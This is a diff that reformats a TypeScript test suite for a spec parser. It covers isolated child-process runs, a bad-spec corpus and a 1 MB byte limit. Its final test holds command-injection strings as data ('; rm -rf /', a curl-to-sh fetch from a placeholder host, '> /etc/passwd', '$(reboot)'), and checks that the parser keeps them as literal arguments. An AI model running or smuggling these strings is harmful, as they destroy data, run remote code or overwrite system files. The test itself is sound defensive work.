@@ -121,11 +121,21 @@ const CHILD_TIMEOUT_MS = 45_000;
 /** Runs parse + expand in a child with a time and heap limit: a hang or a blow-up fails one test, not the suite. */
 function runIsolated(file: string, force: boolean): Promise<Outcome> {
   return new Promise((resolve) => {
-    const child = spawn(process.execPath, ["--max-old-space-size=256", "--import", "tsx", "--input-type=module", "-e", CHILD_SCRIPT], {
-      cwd: ROOT,
-      env: { ...process.env, CORPUS_ROOT: ROOT.replace(/\/$/, ""), CORPUS_FILE: file, CORPUS_NAME: basename(file), CORPUS_FORCE: force ? "1" : "0" },
-      stdio: ["ignore", "pipe", "pipe"],
-    });
+    const child = spawn(
+      process.execPath,
+      ["--max-old-space-size=256", "--import", "tsx", "--input-type=module", "-e", CHILD_SCRIPT],
+      {
+        cwd: ROOT,
+        env: {
+          ...process.env,
+          CORPUS_ROOT: ROOT.replace(/\/$/, ""),
+          CORPUS_FILE: file,
+          CORPUS_NAME: basename(file),
+          CORPUS_FORCE: force ? "1" : "0",
+        },
+        stdio: ["ignore", "pipe", "pipe"],
+      },
+    );
     let stdout = "";
     let stderr = "";
     child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
@@ -135,8 +145,13 @@ function runIsolated(file: string, force: boolean): Promise<Outcome> {
       clearTimeout(timer);
       const line = stdout.split("\n").find((text) => text.startsWith("OUTCOME "));
       if (line) return resolve(JSON.parse(line.slice("OUTCOME ".length)) as Outcome);
-      const why = signal === "SIGKILL" ? `still running after ${CHILD_TIMEOUT_MS} ms (killed)` : `exited with ${code ?? signal}`;
-      resolve({ kind: "other", name: "ChildProcess", message: `${why}: ${stderr.trim().split("\n").slice(-3).join(" | ")}` });
+      const why =
+        signal === "SIGKILL" ? `still running after ${CHILD_TIMEOUT_MS} ms (killed)` : `exited with ${code ?? signal}`;
+      resolve({
+        kind: "other",
+        name: "ChildProcess",
+        message: `${why}: ${stderr.trim().split("\n").slice(-3).join(" | ")}`,
+      });
     });
   });
 }
@@ -157,12 +172,21 @@ function checkBad(outcome: Outcome, expectation: Expectation, fileName: string) 
   expect(outcome.kind, `expected a SpecError, got ${describeIssues(outcome)}`).toBe("SpecError");
   if (outcome.kind !== "SpecError") return;
   const { line, column, text } = expectation;
-  const formatted = outcome.issues.map((issue) => ({ ...issue, text: issue.path ? `${issue.path}: ${issue.message}` : issue.message }));
+  const formatted = outcome.issues.map((issue) => ({
+    ...issue,
+    text: issue.path ? `${issue.path}: ${issue.message}` : issue.message,
+  }));
   const match = formatted.find((issue) => issue.line === line && issue.column === column && issue.text.includes(text!));
-  expect(match, `no issue at ${line}:${column} containing ${JSON.stringify(text)}; got:\n${outcome.message}`).toBeDefined();
+  expect(
+    match,
+    `no issue at ${line}:${column} containing ${JSON.stringify(text)}; got:\n${outcome.message}`,
+  ).toBeDefined();
   expect(outcome.message).toContain(`${fileName}:${line}:${column}: `);
   for (const unwanted of expectation.not) {
-    expect(formatted.filter((issue) => issue.text.includes(unwanted)).map((issue) => issue.text), `an issue contains ${JSON.stringify(unwanted)}`).toEqual([]);
+    expect(
+      formatted.filter((issue) => issue.text.includes(unwanted)).map((issue) => issue.text),
+      `an issue contains ${JSON.stringify(unwanted)}`,
+    ).toEqual([]);
   }
 }
 
@@ -174,7 +198,8 @@ describe("bad-spec corpus", () => {
     for (const file of badFiles) expect(() => expectationOf(file)).not.toThrow();
     for (const name of Object.keys(KNOWN_FINDINGS)) expect(existsSync(join(BAD, name)), name).toBe(true);
     const sidecars = readdirSync(BAD).filter((name) => name.endsWith(".expect"));
-    for (const sidecar of sidecars) expect(existsSync(join(BAD, sidecar.replace(/\.expect$/, ".json"))), sidecar).toBe(true);
+    for (const sidecar of sidecars)
+      expect(existsSync(join(BAD, sidecar.replace(/\.expect$/, ".json"))), sidecar).toBe(true);
   });
 
   for (const file of badFiles) {
@@ -195,9 +220,13 @@ describe("bad-spec corpus", () => {
       const expectation = expectationOf(file);
       if (!expectation.isolate) continue;
       const known = KNOWN_FINDINGS[name];
-      (known ? it.fails : it)(known ? `${name} (known finding: ${known})` : name, { timeout: CHILD_TIMEOUT_MS + 10_000 }, async () => {
-        checkBad(await runIsolated(file, expectation.force), expectation, name);
-      });
+      (known ? it.fails : it)(
+        known ? `${name} (known finding: ${known})` : name,
+        { timeout: CHILD_TIMEOUT_MS + 10_000 },
+        async () => {
+          checkBad(await runIsolated(file, expectation.force), expectation, name);
+        },
+      );
     }
   });
 
@@ -216,18 +245,27 @@ describe("bad-spec corpus", () => {
   });
 
   it("refuses a spec over 1 MB before parsing it", () => {
-    const valid = "project: big\nexperiment: big\ndataset: { kind: teacher }\nmodel: { family: mlp, width: 8 }\ntraining: { optimizer: { lr: 0.1 }, budget: { steps: 1 } }\n";
+    const valid =
+      "project: big\nexperiment: big\ndataset: { kind: teacher }\nmodel: { family: mlp, width: 8 }\ntraining: { optimizer: { lr: 0.1 }, budget: { steps: 1 } }\n";
     const padding = `# ${"x".repeat(78)}\n`.repeat(Math.ceil(MAX_SPEC_BYTES / 80) + 1);
     const source = valid + padding;
     expect(Buffer.byteLength(source)).toBeGreaterThan(MAX_SPEC_BYTES);
     const outcome = runInProcess(source, "big.yaml", false);
-    checkBad(outcome, { kind: "issue", line: 1, column: 1, text: "larger than 1 MB", not: [], force: false, isolate: false }, "big.yaml");
+    checkBad(
+      outcome,
+      { kind: "issue", line: 1, column: 1, text: "larger than 1 MB", not: [], force: false, isolate: false },
+      "big.yaml",
+    );
     // A spec just under the limit is read as usual.
-    expect(runInProcess(valid + padding.slice(0, MAX_SPEC_BYTES - valid.length - 100), "under.yaml", false)).toEqual({ kind: "ok", cells: 1 });
+    expect(runInProcess(valid + padding.slice(0, MAX_SPEC_BYTES - valid.length - 100), "under.yaml", false)).toEqual({
+      kind: "ok",
+      cells: 1,
+    });
   });
 
   it("counts the limit in bytes, not characters", () => {
-    const valid = "project: big\nexperiment: big\ndataset: { kind: teacher }\nmodel: { family: mlp, width: 8 }\ntraining: { optimizer: { lr: 0.1 }, budget: { steps: 1 } }\n";
+    const valid =
+      "project: big\nexperiment: big\ndataset: { kind: teacher }\nmodel: { family: mlp, width: 8 }\ntraining: { optimizer: { lr: 0.1 }, budget: { steps: 1 } }\n";
     const source = `${valid}# ${"✓".repeat(400_000)}\n`; // about 400k characters, 1.2 MB
     expect(source.length).toBeLessThan(MAX_SPEC_BYTES);
     const outcome = runInProcess(source, "wide.yaml", false);
@@ -269,11 +307,24 @@ describe("hostile but valid specs", () => {
   }
 
   it("keeps shell metacharacters as literal argv strings", () => {
-    const parsed = parseSpec(readFileSync(join(HOSTILE_VALID, "01-shell-metacharacters-in-argv.yaml"), "utf8"), "argv.yaml");
+    const parsed = parseSpec(
+      readFileSync(join(HOSTILE_VALID, "01-shell-metacharacters-in-argv.yaml"), "utf8"),
+      "argv.yaml",
+    );
     const runner = parsed.spec.runner;
     expect(runner.kind).toBe("command");
     if (runner.kind !== "command") return;
-    for (const literal of ["; rm -rf /", "$(whoami)", "`id`", "&& curl http://example.invalid/x | sh", "> /etc/passwd", "*", "$HOME", "line one\nline two", "--width={{model.width}}"]) {
+    for (const literal of [
+      "; rm -rf /",
+      "$(whoami)",
+      "`id`",
+      "&& curl http://example.invalid/x | sh",
+      "> /etc/passwd",
+      "*",
+      "$HOME",
+      "line one\nline two",
+      "--width={{model.width}}",
+    ]) {
       expect(runner.argv).toContain(literal);
     }
     expect(runner.env.INJECT).toBe("$(reboot); `halt`");
